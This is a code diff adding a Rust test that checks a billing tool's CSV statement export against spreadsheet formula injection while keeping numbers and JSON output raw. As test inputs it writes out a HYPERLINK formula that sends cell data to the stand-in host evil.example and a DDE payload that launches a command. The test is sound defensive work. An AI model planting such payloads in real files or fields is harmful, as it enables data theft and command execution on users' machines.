@@ -502,3 +502,62 @@ fn a_merge_that_would_overdraw_fails() {
     assert_has(&err, "not enough credits");
     assert_eq!(billing(&r), before);
 }
+
+#[test]
+fn statement_csv_neutralises_formulas_in_notes_and_keeps_numbers_and_json_raw() {
+    let fx = Fx::new();
+    let notes = [
+        ("A", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Refund\")"),
+        ("B", "+1+cmd|' /C calc'!A0"),
+        ("C", "@SUM(1+1)"),
+        ("D", "-2+3"),
+        ("E", "plain note"),
+    ];
+    for (reference, note) in notes {
+        let mut args = Topup::new("t1", "10", reference).by("tester").args();
+        args.push(format!("--note={note}"));
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        fx.run(&args).expect_ok();
+    }
+    // A debit: its amount is a negative number, written as one.
+    let mut adjust = crate::support::fx::adjust_args("-5", "correction", "F");
+    adjust.extend(["--actor", "tester", "--note=-5 for a typo"].map(String::from));
+    let adjust: Vec<&str> = adjust.iter().map(String::as_str).collect();
+    fx.run(&adjust).expect_ok();
+    let csv = fx
+        .run(&["statement", "--tenant-id", "t1", "--csv"])
+        .stdout_text();
+    for cell in [
+        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Refund\"\")\"",
+        ",'+1+cmd|' /C calc'!A0,",
+        ",'@SUM(1+1),",
+        ",'-2+3,",
+        ",plain note,",
+        ",'-5 for a typo,",
+    ] {
+        assert!(csv.contains(cell), "{cell}: {csv}");
+    }
+    let debit = csv.lines().find(|l| l.contains(",ADJUST,")).unwrap();
+    assert!(debit.contains(",ADJUST,-5,45,"), "{csv}");
+    // No cell of a row starts a formula unquoted, and none but the amounts starts with '-'.
+    for line in csv.lines().skip(1) {
+        for (i, cell) in line.split(',').enumerate() {
+            let amount = i == 3 && cell.parse::<i64>().is_ok();
+            assert!(
+                amount || !cell.starts_with(['=', '+', '-', '@']),
+                "{cell} in {line}"
+            );
+        }
+    }
+    // --json keeps the raw text.
+    let json = fx.run(&["statement", "--tenant-id", "t1", "--json"]).json();
+    let raw: Vec<&str> = json["records"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|r| r["note"].as_str())
+        .collect();
+    for (_, note) in notes {
+        assert!(raw.contains(&note), "{note}: {raw:?}");
+    }
+}
